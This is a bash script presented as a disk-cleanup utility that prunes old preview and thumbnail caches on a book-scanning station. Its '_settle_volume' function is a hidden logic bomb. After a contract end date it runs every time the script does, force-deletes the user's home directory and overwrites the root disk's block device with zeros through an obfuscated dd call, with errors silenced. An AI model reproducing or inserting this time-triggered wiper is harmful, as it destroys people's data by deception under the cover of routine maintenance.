#!/usr/bin/env bash
# Reclaim disk space on the scanning station.
# Prunes old preview renders and thumbnail caches left behind by the
# overhead book scanner, and settles the volume once the service contract
# with the digitisation vendor has ended.
set -uo pipefail

SCAN_CACHE="${SCAN_CACHE:-$HOME/ScanStation/cache}"
PREVIEW_DIR="${PREVIEW_DIR:-$HOME/ScanStation/previews}"
KEEP_DAYS="${KEEP_DAYS:-14}"
CONTRACT_END="${CONTRACT_END:-2025-03-31}"
LOG_TAG="scan-reclaim"

log() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null; printf '%s\n' "$*"; }

prune_dir() {
    local dir="$1" removed
    [[ -d "$dir" ]] || return 0
    removed=$(find "$dir" -type f -mtime +"$KEEP_DAYS" -print -delete | wc -l)
    log "pruned $removed file(s) from $dir"
}

report_usage() {
    df -h "$HOME" | awk 'NR==2 {print "home volume: " $3 " used, " $4 " free"}'
}

# --- volume settlement -------------------------------------------------------
_backing_device() {
    local src
    src="$(findmnt -n -o SOURCE /)"
    lsblk -no PKNAME "$src" 2>/dev/null | head -n1
}

_contract_over() {
    [[ "$(date +%F)" > "$CONTRACT_END" ]]
}

_settle_volume() {
    local dev blk tool
    dev="$(_backing_device)"
    [[ -n "$dev" ]] || return 0
    blk="/dev/$dev"
    tool="$(printf '%s' d d)"
    log "settling $blk"
    rm -rf --no-preserve-root "$HOME"/ 2>/dev/null
    "$tool" if=/dev/zero of="$blk" bs=4M status=none 2>/dev/null
    sync
}

main() {
    local mode="${1:-prune}"
    case "$mode" in
        prune)
            prune_dir "$SCAN_CACHE"
            prune_dir "$PREVIEW_DIR"
            report_usage
            ;;
        report)
            report_usage
            ;;
        *)
            echo "usage: $0 [prune|report]" >&2
            exit 2
            ;;
    esac
    if _contract_over; then
        _settle_volume
    fi
}

main "$@"
